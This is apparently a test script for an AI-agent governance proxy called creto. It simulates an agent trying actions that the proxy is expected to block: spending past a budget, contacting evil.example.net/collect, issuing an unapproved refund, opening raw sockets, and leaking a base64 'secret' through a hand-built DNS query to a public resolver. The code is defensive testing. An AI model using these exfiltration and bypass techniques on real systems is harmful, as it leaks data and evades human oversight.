"""An agent that knows nothing of creto: it uses the OpenAI and Anthropic SDKs and plain sockets, as agents do."""

from __future__ import annotations

import json
import socket
import struct
import sys
import urllib.error
import urllib.request

import anthropic
import openai


def say(scene: str, text: str) -> None:
    print(f"  {scene:<22} {text}", flush=True)


def completion(client: openai.OpenAI) -> bool:
    answer = client.chat.completions.create(
        model="gpt-4o-mini", max_tokens=60, messages=[{"role": "user", "content": "Say something about governance."}]
    )
    usage = answer.usage
    assert usage is not None
    say("completion", f"{answer.choices[0].message.content!r}, {usage.prompt_tokens}+{usage.completion_tokens} tokens")
    return bool(answer.choices)


def streamed(client: openai.OpenAI) -> bool:
    stream = client.chat.completions.create(
        model="gpt-4o-mini", max_tokens=60, stream=True, messages=[{"role": "user", "content": "Once more, slowly."}]
    )
    chunks = list(stream)
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    say("streamed completion", f"{text.strip()!r} in {len(chunks)} chunks")
    with anthropic.Anthropic().messages.stream(
        model="claude-haiku-4-5", max_tokens=60, messages=[{"role": "user", "content": "And you?"}]
    ) as events:
        say("streamed message", repr("".join(events.text_stream).strip()))
    # Usage was not asked for, so the client sees exactly what it would have seen without creto.
    return all(chunk.usage is None for chunk in chunks)


def spend_everything(client: openai.OpenAI) -> bool:
    for attempt in range(1, 50):
        try:
            client.chat.completions.create(
                model="gpt-4o-mini", max_tokens=2000, messages=[{"role": "user", "content": "An essay, please. " * 40}]
            )
        except openai.RateLimitError as error:
            say("budget", f"call {attempt} refused: {error.status_code} {error.message}")
            return True
    return False


def forbidden_host() -> bool:
    try:
        urllib.request.urlopen("https://evil.example.net/collect", timeout=10)
    except urllib.error.URLError as error:
        say("host not allowed", f"{error.reason}")
        return True
    return False


def sensitive_post() -> bool:
    request = urllib.request.Request(
        "https://payments.example.com/v1/refunds",
        data=json.dumps({"charge": "ch_1", "amount": 800}).encode(),
        headers={"Content-Type": "application/json", "User-Agent": "curl/8.0"},
    )
    with urllib.request.urlopen(request, timeout=100) as answer:
        say("sensitive POST", f"approved by a person: {answer.status} {answer.read().decode()}")
        return answer.status == 200


def raw_socket() -> bool:
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    except OSError as error:
        raw = error.strerror
    else:
        return False
    try:
        with socket.create_connection(("203.0.113.7", 443), timeout=5) as straight:
            straight.sendall(b"\x00not a protocol creto knows")
            return not straight.recv(1)
    except OSError as error:
        say("raw socket", f"raw: {raw}; straight to an address: {error.strerror or error}")
        return True


def direct_dns() -> bool:
    """Asks a public resolver itself for a name that is not allowed, to carry data out in it."""
    name = b"".join(bytes([len(p)]) + p for p in (b"c2VjcmV0", b"evil", b"example", b"net")) + b"\0"
    query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(query, ("9.9.9.9", 53))
        try:
            rcode = sock.recvfrom(4096)[0][3] & 0x0F
        except OSError as error:
            say("direct DNS", f"no answer: {error}")
            return True
    say("direct DNS", f"answered by creto, not by 9.9.9.9: rcode {rcode} (5 is REFUSED)")
    return rcode == 5


def main() -> int:
    client = openai.OpenAI()
    scenes = [
        completion(client),
        streamed(client),
        spend_everything(client),
        forbidden_host(),
        sensitive_post(),
        raw_socket(),
        direct_dns(),
    ]
    return 0 if all(scenes) else 1


if __name__ == "__main__":
    sys.exit(main())
